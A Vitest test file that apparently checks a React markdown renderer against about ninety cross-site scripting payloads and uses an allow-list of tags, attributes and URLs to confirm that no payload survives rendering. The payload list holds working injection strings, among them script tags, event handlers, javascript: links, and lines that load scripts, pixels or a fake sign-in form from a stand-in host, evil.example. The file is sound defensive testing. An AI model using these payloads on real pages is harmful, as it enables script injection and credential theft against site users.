import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { RenderedMarkdown } from './render.tsx'

/** What people have used elsewhere to make a page run their code, leak its readers, or look like something else. */
const PAYLOADS = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>', '<img src="x" onerror="alert(1)"//>', '<img """><script>alert(1)</script>">', '<img src=`x`onerror=alert(1)>', '<IMG SRC=javascript:alert(1)>',
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x"/></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="javascript:alert(1)"></object>', '<embed src="data:text/html,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>', '<a href="jav&#x09;ascript:alert(1)">x</a>', '<a onmouseover=alert(1)>x</a>', '<a href=x onclick=alert(1) style=position:fixed>x</a>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>', '<button formaction=javascript:alert(1)>x</button>', '<input autofocus onfocus=alert(1)>', '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>', '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=https://evil.example">', '<link rel=stylesheet href=//evil.example/x.css>', '<style>@import "//evil.example/x.css"</style>', '<style>*{display:none}</style>',
  '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>', '<marquee onstart=alert(1)>x</marquee>', '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--<img src=--><img src=x onerror=alert(1)>', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><script>alert(1)</script>', '<div id="main" class="shell" data-item>x</div>', '<p style="position:fixed;inset:0">Sign in again</p>',
  '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](java&#10;script:alert(1))', '[x](&#106;avascript:alert(1))', '[x](\u0001javascript:alert(1))', '[x](javascript&colon;alert(1))', '[x](<javascript:alert(1)>)', '[x]( javascript:alert(1))',
  '[x](vbscript:msgbox(1))', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', '[x](blob:https://evil.example/1)', '[x](file:///etc/passwd)', '[x](view-source:javascript:alert(1))', '<javascript:alert(1)>', '<data:text/html,x>',
  '[x][1]\n\n[1]: javascript:alert(1)', '[x]: javascript:alert(1)\n\n[x]', '[x](https://example.org "\\" onmouseover=\\"alert(1)")', '[x](https://example.org/"onmouseover="alert(1))', '[a](https://example.org/`onclick=alert(1)`)',
  '![x](javascript:alert(1))', '![x](data:image/svg+xml,<svg onload=alert(1)>)', '![x](https://evil.example/pixel.png)', '![x](//evil.example/files/x.png)', '![x" onerror="alert(1)](/files/x.png)', '![x](/files/x.png" onerror="alert(1))', '![x](/files/../api/v1/account/sign-out)', '[![x](//evil.example/a.png)](javascript:alert(1))',
  '```js" onload="alert(1)\nx\n```', '```<script>\nalert(1)\n```', '```html\n</code></pre><script>alert(1)</script>\n```', '`<script>alert(1)</script>`', '    <script>alert(1)</script>',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>', '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: x', '| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |', '- [x] <script>alert(1)</script>', '# <img src=x onerror=alert(1)>',
  'javascript:alert(1)', 'www.example.org/"><script>alert(1)</script>', 'https://example.org/<script>alert(1)</script>', 'mei@example.org"><script>', '**<script>alert(1)**</script>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '\\<script\\>alert(1)\\</script\\>', '@Mei<img src=x onerror=alert(1)> Tanaka', '#1<script>alert(1)</script>2',
]

const TAGS = new Set(['a', 'b', 'blockquote', 'br', 'button', 'code', 'del', 'div', 'em', 'h2', 'h3', 'h4', 'h5', 'h6', 'hr', 'i', 'img', 'input', 'li', 'ol', 'p', 'pre', 'section', 'span', 'strong', 'sup', 'table', 'tbody', 'td', 'th', 'thead', 'tr', 'ul'])
const ATTRIBUTES = new Set(['align', 'alt', 'aria-describedby', 'aria-label', 'checked', 'class', 'data-level', 'decoding', 'disabled', 'href', 'id', 'loading', 'readOnly', 'rel', 'role', 'src', 'start', 'tabindex', 'title', 'type'])
const TAG = /<(\/?)([a-zA-Z][^\s/>]*)((?:\s+[^\s=/>]+(?:="[^"]*")?)*)\s*\/?>/g
const ATTRIBUTE = /([^\s=]+)(?:="([^"]*)")?/g
const SAFE_ADDRESS = /^(https?:\/\/|mailto:|[^:]*$)/
const AWAY = /href="(https?:)?\/\//

/** What stands in a piece of HTML that React wrote, and that none of our text may hold; one sentence each. */
function wrongWith(html: string): string[] {
  const wrong: string[] = []
  const rest = html.replaceAll(TAG, (_tag, _end: string, name: string, attributes: string) => {
    if (!TAGS.has(name)) wrong.push(`<${name}>`)
    if (AWAY.test(attributes) && !attributes.includes('rel="noopener noreferrer nofollow"')) wrong.push(`tells where it leads:${attributes}`)
    for (const [, attribute = '', value = ''] of attributes.matchAll(ATTRIBUTE)) {
      if (!ATTRIBUTES.has(attribute)) wrong.push(`${name} ${attribute}`)
      if (attribute === 'href' && !SAFE_ADDRESS.test(value)) wrong.push(`leads to ${value}`)
      if (attribute === 'src' && !/^\/files\/(?!.*\.\.)/.test(value)) wrong.push(`shows ${value}`)
    }
    return ''
  })
  if (rest.includes('<')) wrong.push(`a stray < in ${rest}`)
  return wrong
}

const MENTIONS = [{ written: '@Mei Tanaka', href: '/people/7' }]
const drawn = (text: string) => renderToStaticMarkup(<RenderedMarkdown text={text} mentions={MENTIONS} />)

test('the table is long enough to mean something', () => expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(90))

test.each(PAYLOADS)('nothing that runs is left of %s', (payload) => {
  expect(wrongWith(drawn(payload))).toEqual([])
  expect(wrongWith(drawn(`> - before ${payload} after`))).toEqual([])
})

test.each(['<script>1</script>', '<img src="/files/a.png" onerror="1"/>', '<a href="javascript:1">x</a>', '<a href="//evil.example">x</a>', '<img src="https://evil.example/a.png"/>', 'a < b'])('the check itself finds %s', (html) => {
  expect(wrongWith(html)).not.toEqual([])
})
